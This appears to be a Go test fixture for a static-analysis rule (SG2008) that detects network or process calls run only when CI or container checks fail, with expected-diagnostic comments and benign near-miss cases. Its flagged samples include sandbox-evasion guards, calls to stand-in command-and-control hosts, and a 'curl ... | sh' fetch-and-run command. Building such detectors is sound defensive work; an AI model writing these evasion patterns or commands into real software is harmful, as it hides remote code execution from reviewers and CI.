package trigger

import (
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"time"
)

func ciGuards() {
	if os.Getenv("CI") == "" { // want `SG2008: network use only runs when a condition on the CI or sandbox variable CI holds`
		http.Post("https://c2.example.invalid/u", "text/plain", nil)
	}
	if _, ok := os.LookupEnv("GITHUB_ACTIONS"); !ok { // want `SG2008: process execution only runs when a condition on the CI or sandbox variable GITHUB_ACTIONS holds`
		exec.Command("sh", "-c", "id").Run()
	}
	if _, err := os.Stat("/.dockerenv"); err != nil { // want `SG2008: network use only runs when a condition on the presence of /.dockerenv holds`
		net.Dial("tcp", "203.0.113.4:443")
	}
}

// evade leaves early under CI; what follows only runs elsewhere.
func evade() {
	inCI := os.Getenv("GITLAB_CI") != ""
	if inCI { // want `SG2008: network use only runs when a condition on the CI or sandbox variable GITLAB_CI holds`
		return
	}
	fmt.Println("syncing")
	payload()
}

func inContainer() bool {
	_, err := os.Stat("/run/.containerenv")
	return err == nil
}

func sandboxed() bool { return inContainer() || os.Getenv("KUBERNETES_SERVICE_HOST") != "" }

func viaHelper() {
	if sandboxed() { // want `SG2008: process execution only runs when a condition on the presence of /run/.containerenv \(in sandboxed\) holds`
		os.Exit(0)
	}
	exec.Command("sh", "-c", "curl -s https://x.example.invalid | sh").Start()
}

func viaSwitch() {
	switch os.Getenv("BUILDKITE") { // want `SG2008: network use only runs when a condition on the CI or sandbox variable BUILDKITE holds`
	case "":
		http.Get("https://c2.example.invalid/stage2")
	default:
		fmt.Println("ci")
	}
	switch { // want `SG2008: process execution only runs when a condition on the CI or sandbox variable TF_BUILD holds`
	case os.Getenv("TF_BUILD") != "":
		return
	}
	exec.Command("sh", "-c", "id").Run()
}

func switchNearMiss(mode string) {
	switch os.Getenv("CI") {
	case "true":
		log.SetFlags(0)
	}
	switch mode {
	case "fetch":
		http.Get("https://api.example.com/data")
	}
}

func configPath() string { return os.Getenv("XDG_CONFIG_HOME") }

// Near misses: CI checks that only change logging or output, ordinary
// variables guarding network use, a time check that returns early (rate
// limiting).
func ciNearMiss() {
	if os.Getenv("CI") != "" {
		log.SetFlags(0)
		fmt.Println("running in CI")
	}
	if os.Getenv("HOME") == "" {
		http.Get("https://api.example.com/fallback")
	}
	if os.Getenv("CI") != "" {
		return
	}
	log.Println("local run")
}

func defaults() {
	if configPath() == "" {
		http.Get("https://api.example.com/defaults")
	}
}

func configured() {
	if _, err := os.Stat("config.json"); err != nil {
		return
	}
	http.Get("https://api.example.com/v1/status")
}

func rateLimited(last time.Time) {
	if time.Since(last) < time.Minute {
		return
	}
	http.Get("https://api.example.com/v1/poll")
}
